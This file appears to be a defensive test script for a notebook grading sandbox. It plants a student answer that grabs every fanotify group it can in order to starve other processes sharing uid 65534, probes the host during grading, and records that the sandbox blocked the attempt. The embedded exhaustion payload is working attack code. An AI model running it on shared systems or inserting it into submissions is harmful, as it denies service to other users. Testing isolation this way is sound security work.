"""Round 13, a05 (ROOT run): fanotify groups, counted per host user, taken from a sandbox (inotify's sibling).

Round 5 refused inotify because "a kernel took all of the grader user's 128 inotify instances". Since Linux 5.13
an unprivileged process may create fanotify groups too (FAN_CLASS_NOTIF | FAN_REPORT_FID), and their number is
counted per user across user namespaces (ucounts: fs.fanotify.max_user_groups = 128 at the initial namespace's
level). As root every sandbox runs as host uid 65534, so one kernel that holds 128 groups leaves none to any other
process of that user: another submission graded side by side, or anything else on the host running as nobody.

The hostile kernel takes every group it can (fanotify_init until it fails) and holds them 15 s; meanwhile this
script, on the host, runs a process as uid 65534 that asks for one group. An honest student is graded too.
Usage: <venv python> a05_fanotify_groups_per_user.py
"""
import os, sys, subprocess, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common13 import course, grade, show, notebook, honest_nb, outputs

Q1 = r'''
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_fds = []
while len(_fds) < 1000:
    _fd = _libc.fanotify_init(0x200, os.O_RDONLY)  # FAN_CLASS_NOTIF | FAN_REPORT_FID
    if _fd < 0:
        _err = os.strerror(ctypes.get_errno()); break
    _fds.append(_fd)
open("/tmp/fan-held", "w").write(str(len(_fds)))
print(f"fanotify groups taken in the sandbox: {len(_fds)}, then: {_err}", flush=True)
time.sleep(15)
for _fd in _fds:
    os.close(_fd)
q1 = "a"
'''

PROBE = r'''
import ctypes, os
os.setgid(65534); os.setuid(65534)
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.fanotify_init(0x200, os.O_RDONLY)
print("ok" if fd >= 0 else os.strerror(ctypes.get_errno()))
'''

if __name__ == "__main__":
    dest = "/tmp/attack13-a05"
    course(dest, {"aa_honest": honest_nb(), "zz_fanotify": notebook(overrides={"quiz_q1": Q1})})
    seen, stop = [], []

    def probe():
        while not stop:
            r = subprocess.run([sys.executable, "-c", PROBE], capture_output=True, text=True).stdout.strip()
            seen.append((time.strftime("%H:%M:%S"), r))
            time.sleep(1)

    th = threading.Thread(target=probe, daemon=True); th.start()
    grade(dest)
    stop.append(1); th.join()
    fails = [s for s in seen if s[1] != "ok"]
    print(f"host process as uid 65534, one fanotify_init a second during grading: {len(seen)} tries, "
          f"{len(fails)} refused ({sorted(set(r for _, r in fails))}), first refused at {fails[0][0] if fails else '-'}")
    show(dest)
    outputs(dest, "zz_fanotify")
    import shutil; shutil.rmtree(dest, ignore_errors=True)

# RESULT (root, a05.out.txt): HELD. fanotify_init is refused in the sandbox (EPERM, the first call); a host process
#   of uid 65534 got its group every second of the grading. Honest student 24/24.
